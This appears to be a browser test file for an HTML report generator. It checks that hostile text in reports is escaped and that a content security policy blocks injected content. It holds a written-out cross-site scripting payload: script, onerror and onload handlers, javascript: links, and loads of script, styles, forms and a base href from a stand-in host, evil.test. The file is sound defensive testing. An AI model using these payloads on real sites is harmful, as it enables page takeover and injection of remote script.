import { FORMATS, PLAIN_VIEW } from '../../lib/report';
import { ALL_HOSTILE, withText } from '../report/hostile-values';
import { FULL } from '../report/reports';
import { TOPOLOGIES, withTopologyText } from '../report/topologies';
import { describeWithChromium } from './chromium';
import { opened } from './opened';

const TAKEN = `document.documentElement.dataset.taken = 'yes'`;

/** What takes a page over that lets it in. */
const ATTACK = `<script>${TAKEN}</script><img src="x" onerror="${TAKEN}"><svg onload="${TAKEN}"></svg>
<a class="attack" href="javascript:${TAKEN.replaceAll("'", '`')}">click</a>
<iframe srcdoc="<script>parent.${TAKEN}</script>"></iframe><object data="http://evil.test/o"></object>
<style>main { display: none }</style><link rel="stylesheet" href="http://evil.test/s.css">
<img src="http://evil.test/i.png"><script src="http://evil.test/s.js"></script>
<form action="http://evil.test/f"><button class="attack">send</button></form>`;

const HOSTILE = `${ALL_HOSTILE} </code></bdi></p></li></main></title></style>${ATTACK}<base href="http://evil.test/">`;

describeWithChromium('a hostile report in a browser', (newPage) => {
  test('is text, all of it', async () => {
    const topologies = (TOPOLOGIES.drifted ?? []).map((each) =>
      withTopologyText(each, (text) => `${text} ${HOSTILE}`),
    );
    const report = withText(FULL, (text) => `${text} ${HOSTILE}`);
    const html = FORMATS.html(report, { ...PLAIN_VIEW, topologies: () => topologies });
    const { page, ...silence } = await opened(newPage, html);
    for (const each of await page.locator('.group > summary').all()) await each.click();
    expect(await page.locator('.attack').count()).toBe(0);
    expect(await page.locator('html').getAttribute('data-taken')).toBeNull();
    expect(await page.locator('main').innerText()).toContain('<img src="x" onerror=');
    expect(silence).toEqual({ requests: [], messages: [], dialogs: [] });
  });

  test('would be held back by the policy, were it not escaped', async () => {
    const html = FORMATS.html(FULL, PLAIN_VIEW).replace('</main>', `${ATTACK}</main>`);
    const { page, requests, dialogs } = await opened(newPage, html);
    await page.evaluate(`document.querySelectorAll('.attack').forEach((each) => each.click())`);
    expect(await page.locator('html').getAttribute('data-taken')).toBeNull();
    expect(await page.locator('main').isVisible()).toBe(true);
    expect(requests).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  test('would have been taken over without the policy', async () => {
    const html = `<html><body><main>${ATTACK}</main></body></html>`;
    const { page, requests } = await opened(newPage, html);
    expect(await page.locator('html').getAttribute('data-taken')).toBe('yes');
    expect(await page.locator('main').isVisible()).toBe(false);
    expect(requests).toContain('http://evil.test/s.js');
  });
});
